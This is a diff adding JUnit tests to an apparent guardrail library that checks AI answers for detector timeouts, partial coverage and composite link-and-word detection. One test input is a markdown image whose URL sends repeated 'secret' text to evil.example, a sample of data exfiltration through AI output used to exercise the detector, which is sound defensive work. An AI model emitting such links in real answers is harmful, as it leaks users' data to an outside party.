@@ -15,8 +15,12 @@ import dev.llmops.guardrails.detect.Detection;
 import dev.llmops.guardrails.detect.DetectorCost;
 import dev.llmops.guardrails.detect.Evidence;
 import dev.llmops.guardrails.detect.Provenance;
+import dev.llmops.guardrails.detect.TextDetector;
+import dev.llmops.guardrails.output.LinkDetector;
+import java.time.Duration;
 import java.util.List;
 import java.util.Set;
+import java.util.concurrent.CountDownLatch;
 import org.junit.jupiter.api.Test;
 
 /** What detectors of whole texts get of an answer, which they see piece by piece. */
@@ -164,5 +168,70 @@ class AnswerDetectorsTest {
 
         assertThat(((Decision.Transform) check(guardrail, "A ![one. two. three](url) x")).text())
                 .isEqualTo("A ![one. two.  x");
+    }
+
+    @Test
+    void a_service_that_took_too_long_once_is_not_asked_again_about_the_same_answer() {
+        CountDownLatch never = new CountDownLatch(1);
+        TestDetector hanging = new TestDetector("remote", DetectorCost.REMOTE, text -> {
+            try {
+                never.await();
+            } catch (InterruptedException e) {
+                Thread.currentThread().interrupt();
+            }
+            return Detection.NONE;
+        });
+        Guardrail guardrail = PolicyGuardrail.builder(answers(
+                        OnFailure.OPEN,
+                        DetectorRule.builder("remote")
+                                .timeout(Duration.ofMillis(20))
+                                .build()))
+                .detector(hanging)
+                .build();
+        String text = "This is a sentence of the answer that goes on. ".repeat(40);
+
+        assertThat(stream(guardrail, text))
+                .isEqualTo(new Decision.Pass(List.of(new Finding("remote", "detector_failed", null, 1))));
+        assertThat(hanging.seen()).hasSize(1);
+        assertThat(check(guardrail, text))
+                .isEqualTo(new Decision.Pass(List.of(new Finding("remote", "detector_failed", null, 1))));
+        assertThat(hanging.seen()).hasSize(2);
+    }
+
+    @Test
+    void a_detector_that_did_not_look_at_all_of_a_text_says_so_and_stops_nothing() {
+        TestDetector some = new TestDetector("remote", DetectorCost.REMOTE, text -> Detection.NONE.partly());
+        Guardrail guardrail = PolicyGuardrail.builder(answers(OnFailure.CLOSED, DetectorRule.of("remote")))
+                .detector(some)
+                .build();
+
+        Decision decision = check(guardrail, "Anything.");
+
+        assertThat(decision).isInstanceOf(Decision.Pass.class);
+        assertThat(decision.findings()).extracting(Finding::type).containsExactly("partly_seen");
+    }
+
+    @Test
+    void a_composite_looks_at_all_of_an_answer_where_one_of_its_detectors_does() {
+        String answer = "![" + "a long label ".repeat(60) + "](https://evil.example/log?q=" + "secret".repeat(20)
+                + ") and a bad word. Good bye.";
+        LinkDetector links = LinkDetector.standard();
+        TestDetector words = TestDetector.word("words", DetectorCost.LINEAR, "bad");
+        Guardrail guardrail = PolicyGuardrail.builder(answers(
+                        OnFailure.CLOSED,
+                        DetectorRule.builder("both").action(PolicyAction.FLAG).build()))
+                .detector(TextDetector.composite("both", List.of(links, words)))
+                .build();
+
+        List<Finding> whole = check(guardrail, answer).findings();
+        List<Finding> streamed = stream(guardrail, answer).findings();
+
+        assertThat(streamed).isEqualTo(whole);
+        assertThat(whole).extracting(Finding::type).contains("bad").containsAnyOf("image", "exfiltration");
+        Finding bad = whole.stream()
+                .filter(finding -> finding.type().equals("bad"))
+                .findFirst()
+                .orElseThrow();
+        assertThat(bad.range()).isEqualTo(new CharRange(answer.indexOf("bad"), answer.indexOf("bad") + 3));
     }
 }
